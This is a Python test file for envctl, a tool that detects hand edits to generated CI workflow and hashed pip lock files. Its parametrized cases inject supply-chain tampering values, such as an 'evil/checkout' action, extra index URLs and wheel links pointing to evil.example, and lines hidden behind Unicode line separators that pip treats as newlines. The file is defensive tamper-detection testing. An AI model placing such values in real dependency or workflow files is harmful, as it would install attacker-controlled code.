"""Generated files: hand edits are found, and other versions of envctl are only noted."""

import pytest

from envctl.domain.ci.generated_file import compare_file, digest_settings, is_generated, seal_file

OLD, NEW = "1" * 40, "a" * 40
HASH, OTHER_HASH = "2" * 64, "b" * 64
WORKFLOW = f"jobs:\n  - uses: actions/checkout@{OLD} # v4.2.2\n  - image: python:3.13.1@sha256:{HASH}\n"
LOCK = f"""\
boto3==1.44.8 \\
    --hash=sha256:{HASH} \\
    --hash=sha256:{OTHER_HASH}
colorama==0.4.6 ; sys_platform == 'win32' \\
    --hash=sha256:{HASH}
"""
SETTINGS = digest_settings({"branch": "main"})


def sealed(body: str, *, version: str = "0.1.0", settings: str = SETTINGS, pinned: bool = True) -> str:
    return seal_file("ci github", body, version=version, settings=settings, pinned=pinned)


def test_written_file_is_current() -> None:
    assert is_generated(sealed(WORKFLOW))
    assert compare_file(sealed(WORKFLOW), sealed(WORKFLOW)) == "current"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("actions/checkout", "evil/checkout"),
        (f"@{OLD} # v4.2.2", "@main"),
        (f"@{OLD} # v4.2.2", "@v7"),
        (f"{OLD} # v4.2.2", f"{NEW} # main"),
        (f"{OLD} # v4.2.2", f"{NEW} # vnext\u2028"),
        ("overwrites it:", "overwrites it:\u2028on: push #"),
        ("overwrites it:", "overwrites it:\x85on: push #"),
        (f"@sha256:{HASH}", ""),
        ("python:", "evil/python:"),
        ("jobs:", "jobs: # mine"),
        ("jobs:", "on: push\njobs:"),
    ],
)
def test_edit_by_hand_is_found(old: str, new: str) -> None:
    found = sealed(WORKFLOW).replace(old, new, 1)
    assert found != sealed(WORKFLOW)
    assert compare_file(found, sealed(WORKFLOW)) == "edited"


@pytest.mark.parametrize(
    ("old", "new", "state"),
    [
        ("boto3==", "-r other.txt\nboto3==", "edited"),
        ("boto3==", "--extra-index-url https://evil.example\nboto3==", "edited"),
        ("boto3==", "--find-links file:///tmp\nboto3==", "edited"),
        ("boto3==", "-e ./evil\nboto3==", "edited"),
        ("boto3==", "evil==1.0 \\\n    --hash=sha256:" + "c" * 64 + "\nboto3==", "edited"),
        # pip ends a line here, an editor does not.
        ("which overwrites it", "\x0c--extra-index-url https://evil.example\x0cevil", "edited"),
        ("which overwrites it", "\u2028evil @ https://evil.example/evil.whl #", "edited"),
        (", settings", ",\x0cevil @ https://evil.example/evil.whl\x0c, settings", "differs"),
        ("boto3==", "# a comment \\\nboto3==", "edited"),
        ("boto3", "boto4", "edited"),
        (f" \\\n    --hash=sha256:{HASH} \\\n    --hash=sha256:{OTHER_HASH}", "", "edited"),
        ("boto3==1.44.8", "boto3 @ https://evil.example/boto3.whl", "edited"),
        ("boto3==", "boto3>=", "edited"),
        ("boto3==", "--index-url https://evil.example\nboto3==", "edited"),
        ("sys_platform == 'win32'", "sys_platform == 'linux'", "edited"),
    ],
)
def test_lock_has_hashed_versions_only(old: str, new: str, state: str) -> None:
    assert old in sealed(LOCK)
    assert compare_file(sealed(LOCK).replace(old, new, 1), sealed(LOCK)) == state


def test_unpinned_file_accepts_no_other_commit() -> None:
    text = f"envctl-promotion @ git+https://github.com/acme/envctl@{OLD}\n"
    found = sealed(text, pinned=False).replace(OLD, NEW)
    assert compare_file(found, sealed(text, pinned=False), pinned=False) == "edited"


def test_commit_raised_in_both_files_is_current() -> None:
    """Renovate raises the project file and the lock file together."""
    old, new = (f"envctl-promotion @ git+https://github.com/acme/envctl@{commit}\n" for commit in (OLD, NEW))
    found = sealed(old, settings=digest_settings({"package": OLD}), pinned=False).replace(OLD, NEW)
    wanted = sealed(new, settings=digest_settings({"package": NEW}), pinned=False)
    assert compare_file(found, wanted, pinned=False) == "current"


def test_other_version_for_same_settings_is_only_noted() -> None:
    newer = sealed("jobs: {}\n", version="0.2.0")
    assert compare_file(newer, sealed(WORKFLOW)) == "other version"
    assert compare_file(sealed(WORKFLOW, version="0.2.0"), sealed(WORKFLOW)) == "current"


def test_changed_settings_make_file_outdated_in_any_version() -> None:
    for version in ("0.1.0", "0.2.0"):
        changed = sealed("jobs: {}\n", version=version, settings=digest_settings({"branch": "trunk"}))
        assert compare_file(changed, sealed(WORKFLOW)) == "differs"


def test_file_of_other_origin_is_foreign() -> None:
    assert compare_file("name: mine\n", sealed(WORKFLOW)) == "foreign"
    assert compare_file("# Written by `envctl ci github`, of old.\njobs: {}\n", sealed(WORKFLOW)) == "differs"
